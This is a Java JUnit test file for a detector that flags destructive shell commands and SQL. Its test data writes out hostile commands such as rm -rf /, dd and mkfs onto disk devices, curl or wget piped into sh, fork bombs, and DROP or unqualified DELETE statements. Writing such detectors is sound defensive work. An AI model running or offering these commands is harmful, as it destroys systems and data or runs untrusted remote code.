package dev.gatehouse.shield.detect;

import static dev.gatehouse.shield.detect.Detected.assertFinds;
import static dev.gatehouse.shield.detect.Detected.assertSilent;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DestructiveDetectorsTest {
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiterString = " => ",
      value = {
        "rm -rf / => rm -rf /",
        "sudo rm -rf / --no-preserve-root => rm -rf / --no-preserve-root",
        "rm -fr /*; echo done => rm -fr /*",
        "cd /tmp && rm -rf ~ => rm -rf ~",
        "rm -r -f \"$HOME\" => rm -r -f \"$HOME\"",
        "/bin/rm --recursive --force /etc => rm --recursive --force /etc",
        "rm --no-preserve-root -r x => rm --no-preserve-root -r x",
        "chmod -R 777 / => chmod -R 777 /",
        "sudo chown -R nobody:nogroup / => chown -R nobody:nogroup /",
        "mkfs.ext4 /dev/sdb1 => mkfs.ext4 /dev/sdb1",
        "dd if=/dev/zero of=/dev/sda bs=1M => dd if=/dev/zero of=/dev/sda",
        "dd if=x.img of=/dev/nvme0n1p1 => dd if=x.img of=/dev/nvme0n1p1",
        "curl -fsSL https://x.sh | sh => curl -fsSL https://x.sh | sh",
        "wget -qO- http://x.io/i | sudo bash => wget -qO- http://x.io/i | sudo bash",
        "bash <(curl -s https://x.io/i) => <(curl -s https://x.io/i)",
        ":(){ :|:& };: => :(){ :|:& };:",
        ":() { : | : & } ; : => :() { : | : & } ; :",
        "echo x > /dev/sda => /dev/sda",
      })
  void findsDangerousShell(String text, String expected) {
    assertFinds("dangerous-shell", text, expected);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "rm -rf ./build",
        "rm -rf node_modules /tmp/cache",
        "rm /etc/hosts.bak",
        "chmod 777 /",
        "chmod -R 755 ./public",
        "the form -rf / is scary",
        "format the drive with mkfs",
        "dd if=/dev/zero of=disk.img bs=1M",
        "curl https://example.com/install.sh -o install.sh",
        "curl -s https://api.example.com | jq .shell",
        "ls 2>/dev/null > /dev/null",
        "rmdir -r /",
      })
  void ignoresSafeShell(String text) {
    assertSilent("dangerous-shell", text);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiterString = " => ",
      value = {
        "DROP TABLE users; => DROP TABLE users",
        "drop database prod => drop database prod",
        "DROP SCHEMA IF EXISTS app CASCADE => DROP SCHEMA IF EXISTS app CASCADE",
        "TRUNCATE TABLE audit_log => TRUNCATE TABLE audit_log",
        "truncate orders; => truncate orders",
        "DELETE FROM users => DELETE FROM users",
        "delete from public.sessions;select 1 => delete from public.sessions",
        "UPDATE accounts SET balance = 0 => UPDATE accounts SET balance = 0",
        "UPDATE t SET note = 'x WHERE y' => UPDATE t SET note = 'x WHERE y'",
        "DELETE FROM t -- WHERE id = 1 => DELETE FROM t -- WHERE id = 1",
        "DELETE FROM t /* WHERE id = 1 */ => DELETE FROM t /* WHERE id = 1 */",
        "UPDATE t SET a = (SELECT b FROM c WHERE d) => UPDATE t SET a = (SELECT b FROM c WHERE d)",
        "SELECT 1; DELETE FROM \"Users\" => DELETE FROM \"Users\"",
      })
  void findsDestructiveSql(String text, String expected) {
    assertFinds("destructive-sql", text, expected);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "DELETE FROM users WHERE id = 42",
        "delete from t where created < now() - interval '1 day'",
        "UPDATE accounts SET balance = 0 WHERE id = 7",
        "UPDATE t SET a = (SELECT 1) WHERE b = 2",
        "SELECT 'DROP TABLE users' AS text",
        "-- DROP TABLE users\nSELECT 1",
        "SELECT * FROM drop_table_log",
        "DROP INDEX idx_users_email",
        "please update the docs",
        "truncate the output to 100 characters",
        "INSERT INTO t (note) VALUES ('DELETE FROM t')",
      })
  void ignoresSafeSql(String text) {
    assertSilent("destructive-sql", text);
  }

  @Test
  void reportsEachDestructiveStatementOnce() {
    assertEquals(
        List.of("DROP TABLE a", "DELETE FROM b"),
        Detected.matched(
            "destructive-sql", "DROP TABLE a; DELETE FROM b WHERE x=1; DELETE FROM b; SELECT 1"));
  }
}
